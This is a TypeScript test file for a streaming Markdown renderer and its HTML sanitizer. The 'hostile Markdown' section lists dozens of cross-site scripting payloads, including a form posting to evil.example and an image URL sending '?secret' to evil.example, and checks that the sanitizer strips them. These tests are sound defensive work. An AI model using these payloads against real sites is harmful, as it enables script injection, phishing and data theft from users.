import { describe, expect, it } from 'vitest';
import { BlockReader, escapeHtml, safeAddress, sanitize, type Block } from './blocks';

const html = (text: string) =>
  new BlockReader()
    .update(text)
    .map((block) => (block.kind === 'html' ? block.html : `[code ${escapeHtml(block.language)}]${escapeHtml(block.code)}`))
    .join('');

function dom(text: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html(text);
  return root;
}

describe('hostile Markdown', () => {
  const ATTACKS = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><animate onbegin=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '![x](javascript:alert(1))',
    '![x](http://evil.example/?secret)',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '<b onmouseover=alert(1)>bold</b>',
    '<details open ontoggle=alert(1)>',
    '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
    '<form action=//evil.example><button>Log in</button></form>',
    '<style>*{display:none}</style>',
    '<p style="position:fixed;inset:0">over</p>',
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:1) |',
    '$\\href{javascript:alert(1)}{x}$',
    '<a name="body" id="app">clobber</a>',
    '```html"><script>alert(1)</script>\nx\n```',
    '<br onclick=alert(1)>',
    '<sub<script>alert(1)</script>>',
    '[x](https://a.example" onclick="alert(1))',
    '[x](https://a.example "t" onclick=alert(1))',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ];
  it.each(ATTACKS)('%s', (attack) => {
    for (const element of dom(`Before ${attack} after\n\n${attack}`).querySelectorAll('*')) {
      expect(['SCRIPT', 'IMG', 'SVG', 'IFRAME', 'FORM', 'INPUT', 'BUTTON', 'STYLE', 'BASE', 'META', 'OBJECT', 'MATH', 'LINK', 'NOSCRIPT']).not.toContain(element.tagName.toUpperCase());
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^id$|^name$|^src/);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|#)/);
      }
    }
  });

  it('shows foreign tags as the text that was written', () => {
    expect(dom('Use `x` or <div class="y"> there').textContent).toContain('<div class="y">');
    expect(dom('<script>alert(1)</script>').textContent).toContain('alert(1)');
  });

  it('passes nothing through the last gate either', () => {
    expect(sanitize('<img src=x onerror=alert(1)><a href="javascript:x" style="a" id="b">y</a>')).toBe('<a>y</a>');
  });

  it('keeps addresses that lead somewhere harmless', () => {
    expect(safeAddress('https://a.example/b?c')).toBe('https://a.example/b?c');
    expect(safeAddress('mailto:a@b.example')).toBe('mailto:a@b.example');
    for (const address of ['javascript:1', ' java\nscript:1', 'data:x', 'file:///etc', '//evil.example', 'blob:x', '\u0001javascript:1'])
      expect(safeAddress(address), address).toBeNull();
  });
});

describe('Markdown', () => {
  it.each([
    ['**a** _b_ `c`', '<p><strong>a</strong> <em>b</em> <code>c</code></p>'],
    ['a<br>b', '<p>a<br>b</p>'],
    ['H<sub>2</sub>O', '<p>H<sub>2</sub>O</p>'],
    ['1 < 2 & 3', '<p>1 &lt; 2 &amp; 3</p>'],
  ])('%s', (text, expected) => expect(html(text).trim()).toBe(expected));

  it('has links that tell their page nothing of this one', () => {
    const link = dom('[x](https://a.example "t")').querySelector('a');
    expect(link?.getAttribute('rel')).toContain('noreferrer');
    expect(link?.title).toBe('t');
  });

  it('has tables, tasks and code', () => {
    expect(dom('| a | b |\n|--:|---|\n| 1 | 2 |').querySelector('td')?.className).toBe('right');
    expect(dom('- [x] done\n- [ ] open').textContent).toMatch(/☑ done\s+☐ open/);
    expect(html('```python title=x\nprint(1)\n```')).toBe('[code python]print(1)');
  });

  it('finds formulas, and leaves money alone', () => {
    expect([...dom('$x^2$ and \\(y\\)').querySelectorAll('.math')].map((each) => each.textContent)).toEqual(['x^2', 'y']);
    expect(dom('$$\n\\frac{1}{2}\n$$').querySelector('.math-block')?.textContent).toBe('\\frac{1}{2}');
    expect(dom('\\[a\\]').querySelector('.math-block')?.textContent).toBe('a');
    expect(dom('It costs $5 and then $6.').querySelector('.math')).toBeNull();
    expect(dom('`$x$`').querySelector('.math')).toBeNull();
  });
});

describe('a text that grows', () => {
  const TEXT = '# Title\n\nA paragraph with **bold** text.\n\n- one\n- two\n\n  more\n- three\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n> more\n\n1. x\n2. y\n\nThe end of $x$.';

  it('ends as if it had come at once, however it is cut', () => {
    const whole = new BlockReader().update(TEXT);
    for (const step of [1, 3, 7, 20]) {
      const reader = new BlockReader();
      for (let i = step; i < TEXT.length; i += step) reader.update(TEXT.slice(0, i), false);
      expect(reader.update(TEXT, true), `pieces of ${step}`).toEqual(whole);
    }
  });

  it('leaves finished blocks as they are', () => {
    const reader = new BlockReader();
    const before = reader.update('# Title\n\nFirst.\n\nSec', false);
    const after = reader.update('# Title\n\nFirst.\n\nSecond.\n\nThird', false);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after.map((block) => block.key)).toEqual([0, 1, 2, 3]);
  });

  it('begins anew where the text is another', () => {
    const reader = new BlockReader();
    reader.update('One.\n\nTwo.\n\nThree.');
    expect(reader.update('Other.').map((block: Block) => block.raw)).toEqual(['Other.']);
  });

  it('knows an open fence from a closed one', () => {
    const open = (text: string, complete: boolean) => {
      const block = new BlockReader().update(text, complete)[0];
      return block?.kind === 'code' ? block.closed : null;
    };
    expect(open('```js\nlet a', false)).toBe(false);
    expect(open('```js\nlet a\n``', false)).toBe(false);
    expect(open('```js\nlet a\n```', false)).toBe(true);
    expect(open('````md\n```\nx\n```', false)).toBe(false);
    expect(open('```js\nlet a', true)).toBe(true);
  });
});
